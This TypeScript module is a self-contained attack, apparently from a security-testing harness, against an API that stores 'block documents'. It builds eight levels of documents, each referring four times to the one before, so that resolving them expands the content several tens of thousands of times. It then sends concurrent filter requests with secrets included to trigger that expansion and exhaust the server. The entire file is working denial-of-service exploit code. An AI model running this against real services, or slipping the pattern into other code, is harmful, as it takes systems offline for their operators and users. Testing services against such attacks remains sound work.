import type { Attack } from './target.ts'

const levels = 8
const references = 4

/** Documents that refer four times to the one before. Read whole, each level is four times as large. */
export const blockReferences: Attack = async (target) => {
  const name = crypto.randomUUID().slice(0, 8)
  const type = await target.call('POST', '/block_types/', { name: `Attack ${name}`, slug: `attack-${name}` })
  const schema = await target.call('POST', '/block_schemas/', {
    block_type_id: type.id,
    fields: { type: 'object', properties: {} },
    capabilities: [],
  })
  let before: string | undefined
  for (let level = 0; level < levels; level += 1) {
    const reference = before === undefined ? 'x'.repeat(500) : { $ref: { block_document_id: before } }
    const { status, id } = await target.call('POST', '/block_documents/', {
      name: `level-${level}`,
      block_type_id: type.id,
      block_schema_id: schema.id,
      data: Object.fromEntries(Array.from({ length: references }, (_, n) => [`r${n}`, reference])),
    })
    if (status !== 201) break
    before = id
  }
  return () =>
    Promise.all(
      [1, 2, 3].map(() =>
        target.call('POST', '/block_documents/filter', { include_secrets: true, block_documents: { is_anonymous: { eq_: false } } }),
      ),
    )
}
